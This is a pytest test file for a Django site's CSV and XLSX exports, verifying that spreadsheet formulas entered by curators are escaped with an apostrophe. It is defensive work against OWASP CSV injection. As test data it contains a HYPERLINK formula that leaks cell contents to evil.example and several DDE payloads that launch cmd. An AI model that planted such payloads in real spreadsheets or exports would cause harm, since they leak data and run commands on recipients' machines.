"""No CSV or XLSX the site writes lets a spreadsheet run a curator-entered cell as a formula (OWASP CSV injection)."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.contrib.auth.models import Group, User
from django.forms import BooleanField
from django.test import Client
from django.urls import reverse

from actors.models import Actor
from actors.resources import ActorResource
from actors.tests.factories import ActorAliasFactory, ActorFactory
from common import exports
from events.tests.factories import PlaceFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _streamed(response) -> str:
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("- a dash opens the quote", "'- a dash opens the quote"),
        (-5, "-5"),
        (Decimal("-3.99"), "-3.99"),
        ("-3.99", "-3.99"),
        ("+1.5e3", "+1.5e3"),
        ("Ansar Dine", "Ansar Dine"),
        ("a = b", "a = b"),
        (None, ""),
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_with_an_apostrophe(value, written):
    """Text starting with = + - @ tab or CR gets a leading apostrophe; numbers, even negative, stay numbers."""
    assert exports.csv_cell(value) == written


def test_web_list_csv_neutralises_formulae(client):
    """A formula in an actor's name reaches the web list's CSV as text."""
    ActorFactory(name=FORMULA)
    (row,) = _rows(_streamed(client.get(reverse("actors:actor_list"), {"format": "csv"}, follow=True)))
    assert row["name"] == "'" + FORMULA


def test_web_list_csv_keeps_negative_coordinates_as_numbers(client):
    """Mali lies mostly west of Greenwich: negative longitudes must stay numbers, not become text."""
    PlaceFactory(name="Bamako", latitude="12.639230", longitude="-8.002890")
    (row,) = _rows(_streamed(client.get(reverse("events:place_list"), {"format": "csv"}, follow=True)))
    assert float(row["longitude"]) == pytest.approx(-8.00289)


def test_api_csv_neutralises_formulae_in_plain_and_list_columns(client):
    """The API's CSV escapes a formula in a plain column and at the start of a joined list column."""
    actor = ActorFactory(name=FORMULA)
    ActorAliasFactory(actor=actor, name="@cmd")
    response = client.get("/api/v1/actors/", {"format": "csv", "fields": "id,name,aliases"})
    (row,) = _rows(_streamed(response))
    assert row["name"] == "'" + FORMULA
    assert row["aliases_name"] == "'@cmd"


def test_api_csv_of_one_record_neutralises_formulae(client):
    """A record's CSV (not streamed through the list) is escaped too."""
    ActorFactory(name=FORMULA, slug="evil")
    response = client.get("/api/v1/actors/evil/", {"format": "csv"})
    (row,) = _rows(_streamed(response) if response.streaming else response.content.decode())
    assert row["name"] == "'" + FORMULA


def test_admin_csv_action_neutralises_formulae(admin_client):
    """The admin's “Export selected rows as CSV” action escapes formulae."""
    actor = ActorFactory(name=FORMULA)
    response = admin_client.post(
        reverse("admin:actors_actor_changelist"),
        {"action": "export_selected_as_csv", "_selected_action": [actor.pk]},
    )
    (row,) = _rows(_streamed(response))
    assert row["name"] == "'" + FORMULA


def test_admin_csv_action_writes_empty_cells_for_missing_values(admin_client):
    """A null column is an empty cell, not the word “None”."""
    actor = ActorFactory(wikidata_id=None, acled_actor_type=None)
    response = admin_client.post(
        reverse("admin:actors_actor_changelist"),
        {"action": "export_selected_as_csv", "_selected_action": [actor.pk]},
    )
    (row,) = _rows(_streamed(response))
    assert row["wikidata_id"] == ""
    assert row["acled_actor_type"] == ""
    assert "None" not in row.values()


@pytest.fixture
def editor() -> Client:
    user = User.objects.create_user(username="editor", password="pw", is_staff=True)
    user.groups.add(Group.objects.get(name="Editor"))
    client = Client()
    client.force_login(user)
    return client


def _import_export_file(client: Client, url_name: str, format_label: str) -> bytes:
    """Export every row through import-export's admin form, in the format whose label is given."""
    url = reverse(url_name)
    form = client.get(url).context["form"]
    (format_index,) = [value for value, label in form.fields["format"].choices if label == format_label]
    data = {"format": format_index, "resource": "0"}
    data |= {name: "on" for name, field in form.fields.items() if isinstance(field, BooleanField)}
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


def test_import_export_csv_neutralises_formulae(editor):
    """import-export's CSV export escapes formulae."""
    ActorFactory(name=FORMULA)
    (row,) = _rows(_import_export_file(editor, "admin:actors_actor_export", "csv").decode("utf-8-sig"))
    assert row["name"] == "'" + FORMULA


def test_import_export_xlsx_stores_formulae_as_text_and_numbers_as_numbers(editor):
    """import-export's XLSX holds the formula as a text cell, not a live formula; a negative longitude stays a
    number."""
    PlaceFactory(name=FORMULA, latitude="12.639230", longitude="-8.002890")
    workbook = openpyxl.load_workbook(io.BytesIO(_import_export_file(editor, "admin:events_place_export", "xlsx")))
    header, row = list(workbook.active.iter_rows())
    cells = {head.value: cell for head, cell in zip(header, row, strict=True)}
    assert cells["name"].data_type == "s"
    assert cells["name"].value == "'" + FORMULA
    assert cells["longitude"].data_type == "n"
    assert cells["longitude"].value == pytest.approx(-8.00289)


def test_reimporting_an_escaped_export_restores_the_value():
    """Export then import round-trips: the apostrophe the export added is taken off again, nothing else changes."""
    actor = ActorFactory(name=FORMULA, slug="evil")
    exported = ActorResource().export()
    assert exported.dict[0]["name"] == "'" + FORMULA
    result = ActorResource().import_data(tablib.Dataset().load(exported.csv, format="csv"), dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    assert Actor.objects.get(pk=actor.pk).name == FORMULA


def test_import_export_xlsx_survives_a_control_character_written_before_validation(editor):
    """A control character that XLSX cannot hold (in a row saved before names refused them) is replaced in the
    file rather than failing the export."""
    place = PlaceFactory(name="Gao")
    type(place).objects.filter(pk=place.pk).update(name="Gao\x07")
    workbook = openpyxl.load_workbook(io.BytesIO(_import_export_file(editor, "admin:events_place_export", "xlsx")))
    header, row = list(workbook.active.iter_rows())
    assert row[[cell.value for cell in header].index("name")].value == "Gao\N{REPLACEMENT CHARACTER}"
